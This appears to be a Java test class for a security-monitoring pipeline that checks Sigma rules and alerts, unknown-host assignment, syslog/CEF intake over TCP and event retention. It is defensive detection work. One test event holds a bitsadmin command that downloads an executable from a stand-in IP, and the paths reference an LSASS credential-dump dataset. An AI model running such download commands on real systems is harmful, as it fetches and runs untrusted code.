package vn.khien.monitoring;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import vn.khien.AccessFixtures;
import vn.khien.FixturePrincipal;
import vn.khien.KhienTest;
import vn.khien.TestLogins;
import vn.khien.monitoring.syslog.SyslogReceivers;
import vn.khien.monitoring.syslog.SyslogSettings;
import vn.khien.monitoring.syslog.SyslogSink;
import vn.khien.monitoring.syslog.Transport;
import vn.khien.registry.Agency;

/**
 * What the pipeline does beyond one rule and one event: an OTRF dataset (MIT) from a host
 * in the inventory raises its alerts on the agency that owns the host, not on the
 * source's; syslog over a real TCP socket lands as events of the source named for it;
 * events past the retention period go, their alerts stay.
 */
@KhienTest
class MonitoringPipelineTests {

	static final String DUMPERT = "/sigma/otrf/cmd_lsass_memory_dumpert_syscalls_2020-10-1822561997.json";

	static final String LSASS_MEMDUMP = "/sigma/rules/rules/windows/process_access/proc_access_win_lsass_memdump.yml";

	@Autowired
	MockMvcTester mvc;

	@Autowired
	TestLogins logins;

	@Autowired
	JsonMapper json;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	ApplicationContext context;

	MonitoringCalls api;

	AccessFixtures fixtures;

	@BeforeEach
	void setUp() {
		api = new MonitoringCalls(mvc, logins, json);
		fixtures = new AccessFixtures(context);
	}

	@Test
	void anOtrfDatasetRaisesItsAlertsOnTheAgencyThatOwnsTheHost() throws Exception {
		Agency parent = fixtures.unit("SYT");
		Agency owner = fixtures.unit(parent.id());
		JsonNode asset = api.post("operator", "/api/v1/assets",
				"{\"agencyId\": " + owner.id() + ", \"kind\": \"WORKSTATION\", \"hostname\": \"workstation5\"}", 201);
		String token = api.source(parent.id());
		api.rule(LSASS_MEMDUMP);
		String rule = jdbc
			.sql("SELECT rule_uid FROM detection_rule WHERE file_name = 'proc_access_win_lsass_memdump.yml'")
			.query(String.class)
			.single();

		JsonNode outcome = api.events(token, new String(MonitoringCalls.resource(DUMPERT), StandardCharsets.UTF_8),
				200);

		assertThat(outcome.get("accepted").asLong()).isEqualTo(118);
		JsonNode alerts = api.get("operator", "/api/v1/alerts?rule=" + rule + "&agency=" + parent.id(), 200);
		assertThat(alerts.get("items")).isNotEmpty();
		for (JsonNode alert : alerts.get("items")) {
			assertThat(alert.get("agencyId").asLong()).isEqualTo(owner.id());
			assertThat(alert.get("assetId").asLong()).isEqualTo(asset.get("id").asLong());
		}
	}

	@Test
	void anUnknownHostIsListedAndOnceAssignedItsEventsBelongToItsAgency() throws Exception {
		Agency parent = fixtures.unit("SYT");
		Agency owner = fixtures.unit(parent.id());
		String token = api.source(parent.id());
		String host = "ws-" + System.nanoTime();
		String line = "<38>Nov 30 09:00:00 " + host + " sshd[811]: Failed password for admin from 203.0.113.9 port 22";
		api.events(token, line + " first\n", 200);

		JsonNode listed = null;
		for (JsonNode u : api.get("operator", "/api/v1/events/unknown-hosts?size=200", 200).get("items")) {
			if (u.get("key").asString().equals("host:" + host)) {
				listed = u;
			}
		}
		assertThat(listed).as("the host is listed for the operator").isNotNull();
		assertThat(listed.get("events").asLong()).isEqualTo(1);
		api.get("officer", "/api/v1/events/unknown-hosts", 403);

		// garbage and names not on the list
		api.post("operator", "/api/v1/events/unknown-hosts/assign",
				"{\"key\": \"host:nowhere-" + host + "\", \"agencyId\": " + owner.id() + ", \"kind\": \"SERVER\"}",
				404);
		api.post("operator", "/api/v1/events/unknown-hosts/assign", "{\"key\": \"host:" + host + "\"}", 400);
		api.post("operator", "/api/v1/events/unknown-hosts/assign",
				"{\"key\": \"host:" + host + "\", \"agencyId\": " + owner.id() + ", \"kind\": \"toaster\"}", 400);
		api.post("operator", "/api/v1/events/unknown-hosts/assign", "{\"key\": ", 400);

		JsonNode asset = api.post("operator", "/api/v1/events/unknown-hosts/assign",
				"{\"key\": \"host:" + host + "\", \"agencyId\": " + owner.id() + ", \"kind\": \"WORKSTATION\"}", 200);
		assertThat(asset.get("agencyId").asLong()).isEqualTo(owner.id());
		for (JsonNode u : api.get("operator", "/api/v1/events/unknown-hosts?size=200", 200).get("items")) {
			assertThat(u.get("key").asString()).isNotEqualTo("host:" + host);
		}

		api.events(token, line + " second\n", 200);
		var placed = jdbc
			.sql("SELECT agency_id, asset_id FROM monitored_event WHERE host_name = :h AND original LIKE '%second%'")
			.param("h", host)
			.query((rs, n) -> List.of(rs.getLong(1), rs.getLong(2)))
			.single();
		assertThat(placed).containsExactly(owner.id(), asset.get("id").asLong());
	}

	@Test
	void syslogOverTcpLandsAsEventsOfTheSourceNamedForIt() throws Exception {
		Agency unit = fixtures.unit("SYT");
		EventSources sources = FixturePrincipal.wrap(context.getBean(EventSources.class));
		if (sources.named("syslog").isEmpty()) {
			sources.create("syslog", List.of(unit.id()));
		}
		SyslogReceivers receivers = new SyslogReceivers(SyslogSettings.ports(null, 0, null),
				context.getBean(SyslogSink.class), null);
		receivers.start();
		String marker = "m" + System.nanoTime();
		try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), receivers.port(Transport.TCP).getAsInt());
				OutputStream out = socket.getOutputStream()) {
			out.write(("<38>Nov 30 09:00:00 fw01.syt.example.gov.vn sshd[811]: Failed password for " + marker
					+ " from 203.0.113.7 port 22 ssh2\n")
				.getBytes(StandardCharsets.US_ASCII));
			String cef = "CEF:0|Fortinet|FortiGate|7.2|13|deny|5|src=203.0.113.8 dst=10.1.2.3 dpt=443 msg=" + marker;
			out.write((cef.length() + " " + cef).getBytes(StandardCharsets.US_ASCII));
			out.flush();
			for (int i = 0; i < 50 && receivers.counters(Transport.TCP).received() < 2; i++) {
				Thread.sleep(100);
			}
		}
		finally {
			receivers.stop();
		}
		long kept = 0;
		for (int i = 0; i < 50 && kept < 2; i++) {
			kept = jdbc.sql("SELECT COUNT(*) FROM monitored_event WHERE original LIKE :m")
				.param("m", "%" + marker + "%")
				.query(Long.class)
				.single();
			if (kept < 2) {
				Thread.sleep(100);
			}
		}
		assertThat(kept).isEqualTo(2);
	}

	@Test
	void eventsPastTheRetentionPeriodGoAndTheirAlertsStay() throws Exception {
		Agency unit = fixtures.unit("SYT");
		String token = api.source(unit.id());
		api.rule(MonitoringTests.BITSADMIN_RULE);
		String host = "old" + System.nanoTime() + ".example";
		String old = """
				{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "%s", \
				"Image": "C:\\\\Windows\\\\System32\\\\bitsadmin.exe", \
				"CommandLine": "bitsadmin /transfer job http://203.0.113.5/a.exe C:\\\\a.exe", \
				"@timestamp": "2025-01-01T02:00:00.000Z"}""".formatted(host);
		api.events(token, old + "\n", 200);
		long alert = jdbc.sql("SELECT id FROM alert WHERE host_name = :h").param("h", host).query(Long.class).single();

		long removed = context.getBean(vn.khien.monitoring.internal.EventRetention.class).purge();

		assertThat(removed).isGreaterThanOrEqualTo(1);
		assertThat(jdbc.sql("SELECT COUNT(*) FROM monitored_event WHERE host_name = :h")
			.param("h", host)
			.query(Long.class)
			.single()).isZero();
		assertThat(api.get("operator", "/api/v1/alerts/" + alert, 200).get("alert").get("eventCount").asLong())
			.isEqualTo(1);
	}

}
